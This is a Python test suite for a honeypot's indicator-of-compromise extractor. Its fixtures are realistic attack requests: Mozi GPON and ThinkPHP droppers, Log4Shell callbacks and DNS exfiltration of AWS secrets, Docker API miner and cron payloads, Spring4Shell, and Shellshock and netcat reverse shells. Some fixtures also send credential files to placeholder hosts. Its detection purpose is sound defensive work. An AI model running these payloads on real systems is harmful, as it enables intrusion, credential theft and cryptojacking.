"""IOC extraction from real exploit shapes (addresses moved to documentation ranges)."""

from __future__ import annotations

import base64

from honeyguard.detect import extract_iocs, raw_http_subject, ssh_command_subject, subject_iocs
from honeyguard.detect.iocs.extract import MAX_IOCS


def _set(iocs: list) -> set[tuple[str, str, str]]:  # type: ignore[type-arg]
    return {(i.type, i.value, i.role) for i in iocs}


def _http(raw: str | bytes) -> set[tuple[str, str, str]]:
    data = raw.encode("latin-1") if isinstance(raw, str) else raw
    return _set(subject_iocs(raw_http_subject(data)))


def test_mirai_gpon_dropper() -> None:
    found = _http(
        "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 203.0.113.10:8080\r\n"
        "User-Agent: Hello, World\r\nContent-Type: text/plain\r\n\r\n"
        "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+"
        "http://198.51.100.7:8088/Mozi.m+-O+->/tmp/gpon80;sh+/tmp/gpon80`&ipv=0"
    )
    assert ("url", "http://198.51.100.7:8088/Mozi.m", "download") in found
    assert ("ip", "198.51.100.7", "download") in found
    assert ("port", "8088", "download") in found
    assert not any(value.startswith("203.0.113.10") for _, value, _ in found)  # the victim's own Host


def test_jaws_shell_dropper_without_scheme_and_tftp() -> None:
    found = _set(
        extract_iocs(
            [
                b"cd /tmp; wget 198.51.100.9/bins/x86 -O x; tftp -g -r mips 198.51.100.10; "
                b"ftpget -v -u anonymous -p anonymous -P 21 bad-host.xyz m m"
            ]
        )
    )
    assert ("url", "http://198.51.100.9/bins/x86", "download") in found
    assert ("ip", "198.51.100.10", "download") in found
    assert ("domain", "bad-host.xyz", "download") in found


def test_log4shell_callback_obfuscated_and_base64_command() -> None:
    command = base64.b64encode(b"wget http://198.51.100.20/lh.sh -O- | sh").decode()
    found = _http(
        "GET / HTTP/1.1\r\nHost: victim.example\r\n"
        "User-Agent: ${${lower:j}ndi:${lower:l}dap://198.51.100.7:1389/TomcatBypass/Command/Base64/"
        f"{command}}}\r\n\r\n"
    )
    assert ("ip", "198.51.100.7", "callback") in found
    assert ("port", "1389", "callback") in found
    assert any(
        kind == "url" and role == "callback" and value.startswith("ldap://198.51.100.7:1389/")
        for kind, value, role in found
    )
    assert ("url", "http://198.51.100.20/lh.sh", "download") in found


def test_log4shell_exfil_through_dns_name() -> None:
    found = _http(
        "GET /?x=${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.leak.attacker.example/a} HTTP/1.1\r\n"
        "Host: 203.0.113.10\r\n\r\n"
    )
    assert ("domain", "leak.attacker.example", "exfil") in found


def test_docker_api_create_with_miner_image_and_command() -> None:
    body = (
        '{"Image":"pocosow/xmrig:latest","Cmd":["sh","-c","curl -s http://198.51.100.30/init.sh | sh; '
        "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft"
        '3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1"],'
        '"HostConfig":{"Binds":["/:/host"],"Privileged":true}}'
    )
    found = _http(
        f"POST /v1.24/containers/create HTTP/1.1\r\nHost: 203.0.113.10:2375\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n{body}"
    )
    assert ("container-image", "pocosow/xmrig:latest", "download") in found
    assert ("url", "http://198.51.100.30/init.sh", "download") in found
    assert ("domain", "pool.supportxmr.com", "miner-pool") in found
    assert ("port", "3333", "miner-pool") in found
    assert (
        "wallet",
        "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
        "miner-pool",
    ) in found


def test_docker_api_json_escaped_cron_command() -> None:
    body = (
        '{"Cmd":["chroot","/mnt/","/bin/sh","-c","echo \\"* * * * * root curl http://198.51.100.40/b2f628/cronb.sh'
        '|bash\\"\\u003e/etc/cron.d/zzh"],"Image":"alpine","HostConfig":{"Binds":["/:/mnt"]}}'
    )
    found = _http(f"POST /v1.24/containers/create HTTP/1.1\r\nHost: 203.0.113.10:2375\r\n\r\n{body}")
    assert ("url", "http://198.51.100.40/b2f628/cronb.sh", "download") in found


def test_thinkphp_invokefunction_dropper() -> None:
    found = _http(
        "GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system"
        "&vars[1][]=cd%20/tmp;wget%20http://198.51.100.50/x86;chmod%20777%20x86;./x86%20thinkphp HTTP/1.1\r\n"
        "Host: 203.0.113.10\r\n\r\n"
    )
    assert ("url", "http://198.51.100.50/x86", "download") in found


def test_phpunit_eval_stdin_with_hex_encoded_command() -> None:
    found = _http(
        "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: 203.0.113.10\r\n\r\n"
        '<?php system("\\x77\\x67\\x65\\x74\\x20http://198.51.100.60/p.sh"); ?>'
    )
    assert ("url", "http://198.51.100.60/p.sh", "download") in found


def test_spring4shell_and_shellshock_reverse_shell() -> None:
    spring = _http(
        "POST /helloworld/greeting HTTP/1.1\r\nHost: 203.0.113.10\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j"
        "%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di"
        ".getRuntime().exec(%22curl%20http%3A%2F%2F198.51.100.70%2Fs.sh%22)%3B%7D"
        "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
    )
    assert ("url", "http://198.51.100.70/s.sh", "download") in spring
    shellshock = _http(
        "GET /cgi-bin/status HTTP/1.1\r\nHost: 203.0.113.10\r\n"
        "Referer: () { :; }; /bin/bash -c 'bash -i >& /dev/tcp/198.51.100.80/4444 0>&1'\r\n\r\n"
    )
    assert ("ip", "198.51.100.80", "c2") in shellshock and ("port", "4444", "c2") in shellshock


def test_netcat_roles_and_exfil() -> None:
    found = _set(extract_iocs([b"nc 198.51.100.90 5555 -e /bin/sh"]))
    assert ("ip", "198.51.100.90", "c2") in found and ("port", "5555", "c2") in found
    found = _set(extract_iocs([b"cat /etc/passwd | nc 198.51.100.91 9001"]))
    assert ("ip", "198.51.100.91", "exfil") in found
    found = _set(extract_iocs([b"curl -d @/root/.aws/credentials http://collect.bad-host.xyz/u"]))
    assert ("url", "http://collect.bad-host.xyz/u", "exfil") in found


def test_ssh_command_obfuscated_dropper() -> None:
    subject = ssh_command_subject(b"cd /tmp;w'g'et${IFS}http://198.51.100.95/a.sh;{curl,-O,http://198.51.100.96/b}")
    found = _set(subject_iocs(subject))
    assert ("url", "http://198.51.100.95/a.sh", "download") in found
    assert ("url", "http://198.51.100.96/b", "download") in found


def test_ordinary_requests_reveal_nothing() -> None:
    assert (
        _http(
            "GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; "
            "+http://www.google.com/bot.html)\r\nReferer: https://www.example.org/\r\n\r\n"
        )
        == set()
    )
    assert _http("GET /robots.txt HTTP/1.1\r\nHost: 203.0.113.10\r\n\r\n") == set()
    assert _http("POST /login HTTP/1.1\r\nHost: shop.example\r\n\r\nuser=ada&password=hunter2") == set()


def test_hashes_are_taken_with_context_only() -> None:
    digest = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    assert ("sha256", digest, "unknown") in _set(extract_iocs([f"echo sha256:{digest}".encode()]))
    assert _set(extract_iocs([f"/v1.24/containers/{digest}/attach".encode()])) == set()


def test_iocs_are_bounded_and_deduplicated() -> None:
    many = b" ".join(b"wget http://198.51.%d.%d/x" % (i // 250, i % 250) for i in range(500))
    found = extract_iocs([many, many])
    assert len(found) == MAX_IOCS
    assert len({(i.type, i.value) for i in found}) == len(found)


def test_nested_encodings_are_bounded() -> None:
    payload = b"wget http://198.51.100.99/deep"
    for _ in range(10):  # deeper than extraction follows: must stop, not hang
        payload = b"echo " + base64.b64encode(payload) + b" | base64 -d | sh"
    assert isinstance(extract_iocs([payload]), list)
    shallow = (
        b"echo "
        + base64.b64encode(b"echo " + base64.b64encode(b"wget http://198.51.100.98/x") + b" | base64 -d | sh")
        + b" | base64 -d | sh"
    )
    assert ("url", "http://198.51.100.98/x", "download") in _set(extract_iocs([shallow]))


def test_plus_is_a_space_in_a_form_body_even_without_a_field_name() -> None:
    # the real GPON body as Mozi sends it: no 'name=' before the command, '+' for every space
    found = _http(
        "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 203.0.113.10:8080\r\n\r\n"
        "busybox+wget+http://198.51.100.7/Mozi.m+-O+/tmp/m"
    )
    assert ("url", "http://198.51.100.7/Mozi.m", "download") in found
    assert not any("+" in value for _, value, _ in found)
    text = _set(extract_iocs([b"busybox+wget+http://198.51.100.7/Mozi.m+-O+/tmp/m"]))
    assert ("url", "http://198.51.100.7/Mozi.m", "download") in text


def test_plus_is_a_space_in_a_query_string() -> None:
    found = _http(
        "GET /cgi-bin/x.cgi?cmd=cd+/tmp;busybox+wget+http://198.51.100.7/Mozi.a+-O+m HTTP/1.1\r\n"
        "Host: 203.0.113.10\r\n\r\n"
    )
    assert ("url", "http://198.51.100.7/Mozi.a", "download") in found


def test_base64_keeps_its_plus_signs() -> None:
    command = base64.b64encode(b"wget http://198.51.100.21/zz~>/x.sh -O- | sh").decode()
    assert "+" in command[30:45]  # inside the URL's encoding: read as a space, the URL would be lost
    found = _set(extract_iocs([f"echo${{IFS}}{command}|base64${{IFS}}-d|sh".encode()]))
    assert ("url", "http://198.51.100.21/zz~", "download") in found  # ends at the shell redirection


def test_mozi_wget_with_tftp_flags_and_busybox_tftp() -> None:
    found = _set(extract_iocs([b"target_addr=;busybox wget -g 198.51.100.7 -l /tmp/x -r /Mozi.m;sh /tmp/x"]))
    assert ("ip", "198.51.100.7", "download") in found
    assert ("url", "tftp://198.51.100.7/Mozi.m", "download") in found
    found = _set(extract_iocs([b"cd /tmp; tftp -g -r x -l y 198.51.100.8; chmod 777 y"]))
    assert ("ip", "198.51.100.8", "download") in found
    assert ("url", "tftp://198.51.100.8/x", "download") in found


def test_social_warfare_swp_url_is_a_download() -> None:
    found = _http(
        "GET /wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://198.51.100.7/payload.txt "
        "HTTP/1.1\r\nHost: blog.example.com\r\n\r\n"
    )
    assert ("url", "http://198.51.100.7/payload.txt", "download") in found
    assert ("ip", "198.51.100.7", "download") in found


def test_ordinary_requests_have_no_iocs_and_the_host_is_never_one() -> None:
    assert _http("GET / HTTP/1.1\r\nHost: 198.51.100.30:8080\r\nUser-Agent: Mozilla/5.0\r\n\r\n") == set()
    assert _http("GET /index.html?q=a+b HTTP/1.1\r\nHost: 198.51.100.30\r\n\r\n") == set()


def test_memoised_parts_give_what_a_cold_extraction_gives() -> None:
    """Download commands and URLs are memoised across requests (a bot's payload repeats while a
    cache-buster changes): a warm extraction equals a cold one, whatever came before."""
    from honeyguard.detect.iocs import collector, downloads

    payloads = [
        b"cd /tmp; wget http://198.51.100.7/jaws; curl -d @/etc/passwd http://198.51.100.8/u; "
        b"tftp -g -r m 198.51.100.9",
        b"busybox wget -g 198.51.100.10 -l /tmp/m -r /Mozi.m; wget x.example.com:8080/a.sh; curl ftp://u@h.example/x",
        b"wget http://198.51.100.7/jaws&n=1 stratum+tcp://pool.supportxmr.com:3333 wget bad-host.xyz/x.sh",
    ]

    def cold(texts: list[bytes]) -> list[tuple[str, str, str]]:
        downloads.download_ops.cache_clear()
        collector._parsed_url.cache_clear()
        collector.host_class.cache_clear()
        return [(i.type, i.value, i.role) for i in extract_iocs(texts, host=b"victim.example:80")]

    expected = [cold([p]) for p in payloads] + [cold(payloads)]
    assert all(expected)
    for _ in range(2):  # warm now: the same answers, in the same order, and in another order too
        singles = [[(i.type, i.value, i.role) for i in extract_iocs([p], host=b"victim.example:80")] for p in payloads]
        assert singles == expected[:3]
        warm = [(i.type, i.value, i.role) for i in extract_iocs(payloads, host=b"victim.example:80")]
        assert warm == expected[3]


def test_a_url_met_again_with_a_stronger_role_takes_it() -> None:
    # first as a bare URL in the text (unknown), then in a later text as a download: the stronger
    # role wins; met again as unknown after the download, it stays a download
    texts = [b"see http://198.51.100.50/x.sh", b"wget http://198.51.100.50/x.sh", b"http://198.51.100.50/x.sh"]
    found = {(i.type, i.value): i.role for i in extract_iocs(texts)}
    assert found[("url", "http://198.51.100.50/x.sh")] == "download"
    assert found[("ip", "198.51.100.50")] == "download"
